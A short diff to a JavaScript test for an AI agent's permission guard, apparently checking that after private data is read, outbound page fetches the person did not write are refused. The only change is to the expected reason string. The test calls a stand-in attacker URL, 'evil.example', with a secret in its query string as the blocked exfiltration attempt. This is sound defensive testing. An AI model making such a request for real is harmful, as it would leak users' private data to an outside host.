@@ -76,7 +76,7 @@ test("the rule of two: after something private, nothing that the person did not 
     await call("page", "https://evil.example/?d=secret"),
     /^Tool error: refused: the person said no/,
   );
-  assert.match(asked[0]?.reason ?? "", /private was read/);
+  assert.match(asked[0]?.reason ?? "", /^private-read$/);
   assert.equal(asked[0]?.canAlways, false);
   // What the person wrote may go out, but not with other letters than written.
   assert.equal(await call("page", "https://a.example/Page"), "did https://a.example/Page");
